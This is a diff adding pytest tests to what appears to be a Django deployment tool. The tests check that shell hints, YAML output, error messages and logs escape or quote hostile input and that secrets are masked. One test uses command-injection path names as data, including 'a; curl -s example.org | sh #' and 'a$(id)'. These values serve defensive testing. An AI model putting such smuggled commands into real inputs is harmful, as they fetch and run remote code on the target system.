@@ -7,13 +7,17 @@ import subprocess
 import unicodedata
 from typing import Any
 
+import django_host_command
 import django_project_inspection
+import django_site_cause_file
+import django_site_hint
 import django_wall_text
 import jinja2
 import pytest
 import yaml
 from django_host_command import DeploymentError
 from django_wall_text import pillar_head, pillar_line
+from specimen import configured
 from trees import write_tree
 
 #: What terminals, Jinja, YAML and shells give a meaning, and ordinary text between.
@@ -62,6 +66,7 @@ def test_value_in_pillar_is_that_value_again(seed):
         hint = django_wall_text.in_pillar(value, quote="'")
         assert loaded(text) == loaded(hint) == value and "\n" not in text + hint
         lines = [pillar_head(2, "a"), pillar_line(4, key, value, remark), pillar_line(4, f"z{key}", 1, remark)]
+        assert loaded(django_wall_text.pillar_block(0, {"site": {key: value}})) == {"site": {key: value}}
         assert loaded("\n".join(["site:", *lines, ""])) == {"site": {"a": {key: value, f"z{key}": 1}}}
 
 
@@ -203,3 +208,42 @@ def test_answer_of_the_reading_process_is_data(tmp_path, monkeypatch, answer):
     monkeypatch.setattr(django_project_inspection.django_wall_delegate, "ask", lambda *_, **__: answer)
     with pytest.raises(DeploymentError, match="without a usable answer"):
         django_project_inspection.inspect(str(tmp_path))
+
+
+# Errors, hints and logs
+
+
+@pytest.mark.parametrize("name", ["a; curl -s example.org | sh #", "a$(id)", "a`id`", "a b"])
+def test_path_of_an_exception_is_one_word_of_a_command(name):
+    site = configured()
+    text = f"FileNotFoundError: [Errno 2] No such file or directory: '{site.shared.top}/{name}/x.csv'"
+    hint = django_site_cause_file.of_file(site, text, {})
+    command = re.search(r"runuser .*(?=, or put it there)", hint)
+    assert command and shlex.split(command[0])[-1] == f"{site.shared.top}/{name}"
+
+
+def test_path_of_an_exception_that_cannot_be_quoted_is_in_no_command():
+    site = configured()
+    text = f"No such file or directory: '{site.shared.top}/a\x1b]0;b\x07/x.csv'"
+    assert django_site_cause_file.of_file(site, text, {}) == "x.csv is missing in what releases share: put it there"
+
+
+def test_value_in_a_hint_is_a_value_of_yaml():
+    names = ["x{{ 1/0 }}", "yes", "a]: {b: c", "it's", "new\nline"]
+    assert loaded(django_site_hint.listed(names)) == names
+
+
+def test_error_is_shown_in_all_its_parts():
+    error = DeploymentError("a\x1b[2J\u202e", details=["b\nc\x85"], log="d\x1b]0;x\x07\n\x1b[31me\x1b[0m", hint="f\x9b")
+    assert str(error) == "a\\x1b[2J\\u202e\n  b\\nc\\x85\n  | d\\x1b]0;x\\x07\n  | e\nf\\x9b"
+
+
+def test_secret_is_masked_as_it_is_shown():
+    secret = "se\x85cret\nkey"
+    for text in (secret, django_wall_text.shown(secret), django_wall_text.shown(secret, lines=True)):
+        assert django_host_command.redact(f"a {text} b", [secret]) == "a ********** b"
+
+
+def test_log_is_shown(caplog):
+    django_wall_text.Log.of("django_test").warning("%s: %d of %s", "a\x1b[2J", 3, DeploymentError("b\u2028"))
+    assert caplog.messages == ["a\\x1b[2J: 3 of b\\u2028"]
